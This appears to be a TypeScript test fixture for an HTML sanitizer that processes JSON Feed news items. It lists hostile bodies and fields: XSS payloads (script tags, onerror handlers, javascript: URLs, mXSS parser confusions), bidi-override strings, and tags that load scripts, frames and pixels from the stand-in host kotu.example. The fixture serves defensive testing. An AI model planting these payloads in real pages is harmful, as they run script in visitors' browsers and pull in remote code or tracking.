// Bodies and fields of a partner who means ill. What runs calls vur(); what loads asks kotu.example.
import fc from 'fast-check'

const RUN = 'top.vuruldu=1,alert(1)'
const EVIL = 'https://kotu.example'
const URL = `javascript:${RUN}`

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0000>${RUN}</script>`,
  `<script/x>${RUN}</script `,
  `<<script>${RUN}//<</script>`,
  `<script type="module">import "${EVIL}/m.js"</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script></template>`,
  `<textarea></textarea><img src=x onerror=${RUN}></textarea>`,
  `<title></title><img src=x onerror=${RUN}></title>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<noembed></noembed><img src=x onerror=${RUN}></noembed>`,
  `<iframe src="https://www.youtube.com/embed/a"><p title="</iframe><img src=x onerror=${RUN}>"></iframe>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="${EVIL}/x.css"?><p>a</p>`,
]

const HANDLERS = [
  `<img src=x onerror="${RUN}">`,
  `<img src=x ONERROR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x\u000conerror=${RUN}>`,
  `<img src="x"onerror="${RUN}">`,
  `<img """><img src=x onerror=${RUN}>">`,
  `<p onclick=${RUN} onmouseover=${RUN} onfocus=${RUN} tabindex=0 autofocus>a</p>`,
  `<details open ontoggle=${RUN}><summary>a</summary>b</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<marquee onstart=${RUN}>a</marquee>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>a</select>`,
  `<p style="animation:x 1s" onanimationstart=${RUN}>a</p>`,
  `<dialog open onclose=${RUN}>a</dialog>`,
  `<div popover id=p onbeforetoggle=${RUN}>a</div><button popovertarget=p>b</button>`,
]

const ADDRESSES = [
  URL,
  URL.toUpperCase(),
  `  ${URL}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\r\nscript:${RUN}`,
  `java&Tab;script&colon;${RUN}`,
  `&#106;&#97;vascript:${RUN}`,
  `&#x6A&#x61vascript:${RUN}`,
  `\u0001${URL}`,
  `&#1;${URL}`,
  `java\u0000script:${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `view-source:${EVIL}`,
  `blob:${EVIL}/1`,
  `feed:${URL}`,
  `https://akis.example@kotu.example/`,
].map(address => `<a href="${address}">bağlantı</a>`)

const LOADING = [
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `<link rel=prefetch href=${EVIL}/x><link rel=preconnect href=${EVIL}><link rel=dns-prefetch href=${EVIL}>`,
  `<style>@import "${EVIL}/x.css"; body{display:none}</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}*{font-family:x}</style>`,
  `<p style="background:url(${EVIL}/b.png)">a</p>`,
  `<table background=${EVIL}/t.png><tr><td background=${EVIL}/c.png>a</table>`,
  `<iframe src=${EVIL}></iframe>`,
  `<iframe srcdoc="<img src=${EVIL}/s.png>"></iframe>`,
  `<iframe src="https://www.youtube.com.kotu.example/embed/a"></iframe>`,
  `<iframe src="https://www.youtube.com@kotu.example/embed/a"></iframe>`,
  `<iframe src="https://www.youtube.com/redirect?q=${EVIL}"></iframe>`,
  `<frameset><frame src=${EVIL}></frameset>`,
  `<object data=${EVIL}/o.swf><param name=movie value=${EVIL}/o.swf></object>`,
  `<embed src=${EVIL}/e.swf>`,
  `<applet code=${EVIL}/a.class></applet>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href=${EVIL}/><img src=b.png>`,
  `<form action=${EVIL}><input type=image src=${EVIL}/i.png><button>a</button></form>`,
  `<img src="${EVIL}/p.gif" width=1 height=1>`,
  `<img src="${EVIL}/p.gif" style="width:0;height:0">`,
  `<img src="${EVIL}/p.gif" style="display:none">`,
  `<img src="https://kotu.feedsportal.com/c/p.img">`,
  `<img srcset="https://ad.doubleclick.net/p 1x">`,
  `<video poster="https://mc.yandex.ru/watch/1" src="${EVIL}/v.mp4" autoplay preload=auto></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay preload=auto></audio>`,
  `<video autoplay><source src="${EVIL}/v.mp4"><track default src=${EVIL}/t.vtt></video>`,
  `<a href="${EVIL}" ping="${EVIL}/ping">a</a>`,
  `<svg><image href=${EVIL}/s.png /><use href=${EVIL}/u.svg#a></svg>`,
  `<math href=${EVIL}><mi>a</mi></math>`,
  `<portal src=${EVIL}></portal><fencedframe src=${EVIL}></fencedframe>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${EVIL}/"]}]}</script>`,
]

const CONFUSIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a title="</style><img src=x onerror=${RUN}>">`,
  `<svg><desc><p><style><a title="</style><img src=x onerror=${RUN}>"></desc></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=${RUN}>"></annotation-xml>`,
  `<svg><foreignObject><p title="</p><script>${RUN}</script>">a</foreignObject></svg>`,
  `<select><template><style><!--</style><a rel="--><img src=x onerror=${RUN}>"></template></select>`,
  `<b><i><u><s><b><i><u><s><b><i><u><s><div><div><div></b><img src=x onerror=${RUN}>`,
]

const ESCAPES = [
  '</div></div></article></main></body></html><h1>dışarıda</h1>',
  '<li><div><li>a</li></div></li></div><p>b',
  '<ul><li><div><div><div><li>a</div></div></div></ul>',
  '<dl><dt><div><div><dd>a</div></div></dl>',
  '<table><div><table></table></div></table>',
  '<table><tr><td><table></td></tr></table></div></div>',
  '<table><caption><div><td>a</td></div></caption></table>',
  '<p><table><p></table></p></div>',
  '<a href=/a><div><a href=/b><div><a href=/c>a</div></div></a>',
  '<!-- bitmeyen yorum',
  '<p title="bitmeyen öznitelik',
  '<iframe src="https://www.youtube.com/embed/a">',
  '<svg><foreignObject>',
  '<textarea>',
  '<b>'.repeat(200),
  `${'<blockquote>'.repeat(200)}dipte`,
  `${'<ul><li>'.repeat(100)}dipte`,
  `${'<table><tr><td>'.repeat(60)}dipte`,
  `<p>${'çekoslovakya'.repeat(400)}</p>`,
  `<h1>${'Ğ'.repeat(600)}</h1><h2>${'w'.repeat(600)}</h2>`,
  `<pre>${'x'.repeat(4000)}</pre><ul><li><pre>${'y'.repeat(4000)}</pre></li></ul>`,
  `<table><tr>${'<td>sütun</td>'.repeat(60)}</tr></table>`,
  `<table><tr><td colspan=999999 rowspan=999999>a</td><th colspan=1000>b</th></tr></table>`,
  '<img src="https://resim.example/buyuk.png" width=99999 height=99999>',
  '<img src="https://resim.example/buyuk.png" width=30000 height=2>',
  '<video src="https://resim.example/f.mp4" width=9000 height=9000></video>',
  '<div style="position:fixed;inset:0;background:red;z-index:9">örtü</div>',
  '<p class="masthead skip" id="content">a</p><p class=foot>b</p>',
  '<img name=body id=body src="https://resim.example/a.png"><a id=forms name=cookie>a</a><form name=getElementById></form>',
  `<p>\u202eters \u2066\u2067açık</p>\u2069\u202c\u202e`,
  '<bdo dir=rtl>ters</bdo><p dir=rtl>sağdan</p>',
  `<p>a${'\u0335\u0336\u0489\u030d'.repeat(300)}</p>`,
]

export const HOSTILE_BODIES: readonly string[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...LOADING,
  ...CONFUSIONS,
  ...ESCAPES,
]

const TAG = `"></title></script></a></h1><script>${RUN}</script><img src=x onerror=${RUN}>`
/** Ends whatever isolates it, then turns what follows. */
const TURN = '\u2067ters\u2069\u2069\u202c\u202e'
const LATER = '2026-11-21T11:00:00+03:00'

/** Members of a JSON Feed item, for what stands around the body. */
export const HOSTILE_FIELDS: readonly Readonly<Record<string, unknown>>[] = [
  { title: TAG },
  { title: `${TURN} başlık` },
  { title: 'W'.repeat(1900) },
  { title: `a${'\u0335\u0489\u030d'.repeat(500)}` },
  { summary: TAG, content_html: '' },
  { summary: `${TURN} özet`, content_html: '' },
  { tags: ['yerel', TAG.slice(0, 200), `${TURN} etiket`, 'ç'.repeat(200)] },
  { authors: [{ name: TAG, url: URL }] },
  { authors: [{ name: `${TURN} Yazar` }], _rights: { class: 'news', byline: { mode: 'name', text: `${TURN} Yazar` } } },
  { _rights: { class: 'news', byline: { mode: 'name', text: TAG } } },
  { _rights: { class: 'news', holder: { name: TAG, url: URL } } },
  { _rights: { class: 'news', holder: { name: `${TURN} Sahibi` } } },
  { _rights: { class: 'news', license_url: URL } },
  { _rights: { class: 'news', notice: { tr: TAG, en: TAG } } },
  { image: URL },
  { image: `data:image/svg+xml,<svg onload=${RUN}>` },
  { attachments: [{ url: URL, mime_type: 'image/png', title: TAG }] },
  { attachments: [{ url: `${EVIL}/f.mp4`, mime_type: 'video/mp4', title: `${TURN} film` }] },
  { attachments: [{ url: `${EVIL}/x.html`, mime_type: 'text/html', title: 'Belge' }] },
  { _rights: { class: 'news', dateline: `${TURN} KARS`, updates: [{ at: LATER, note: TAG }] } },
  { _rights: { class: 'news', updates: [{ at: LATER, note: `${TURN} not` }] } },
  {
    _rights: {
      class: 'news',
      dateline: `${TURN} KARS`,
      source_chain: [
        {
          name: `${TURN} Gazetesi`,
          kind: 'newspaper',
          date: LATER,
          url: 'https://ajans.example/1',
          author: `${TURN} Yazar`,
        },
      ],
    },
  },
  {
    attachments: [{ url: `https://resim.example/a.png`, mime_type: 'image/png', _rights: { credit: `${TURN} Foto` } }],
  },
]

const NAMES =
  'p div h1 h3 blockquote pre ul ol li dl dt dd table caption thead tbody tr td th colgroup col a img figure figcaption b i span ' +
  'sub small ruby rt rp time br hr wbr iframe video audio source picture svg math mtext style script template select option ' +
  'textarea title noscript form button section center font nobr marquee object plaintext xmp body html frameset foreignObject x-y'

const VALUES = [
  '',
  'x',
  '/a',
  '//b.example/c',
  URL,
  'https://www.youtube.com/embed/a',
  'rtl',
  '1',
  '9',
  '"><b>',
  '&lt;',
]
const ATTRIBUTES = 'href src srcset data-src poster title dir lang width height colspan style onload id class rel cite'

const name = fc.constantFrom(...NAMES.split(' '))
const attribute = fc
  .tuple(fc.constantFrom(...ATTRIBUTES.split(' ')), fc.constantFrom(...VALUES))
  .map(([key, value]) => ` ${key}="${value.replaceAll('"', '&quot;')}"`)

const piece = fc.oneof(
  {
    weight: 6,
    arbitrary: fc.tuple(name, fc.array(attribute, { maxLength: 2 })).map(([n, all]) => `<${n}${all.join('')}>`),
  },
  { weight: 5, arbitrary: name.map(n => `</${n}>`) },
  { weight: 3, arbitrary: fc.constantFrom('Kars', ' ', '\n', '\r', '\u00a0', 'ş', '\u202e', '😀', '\ud800', '\u0000') },
  {
    weight: 2,
    arbitrary: fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '&',
      '&lt;',
      '&#x3c;',
      '&#0;',
      '<!--',
      '-->',
      ']]>',
      '<![CDATA[',
      '<?',
      '</',
      '<p ',
      '/>',
      '=',
    ),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
)

/** Anything that could be taken for HTML. */
export const anyHtml = fc.array(piece, { maxLength: 40 }).map(pieces => pieces.join(''))
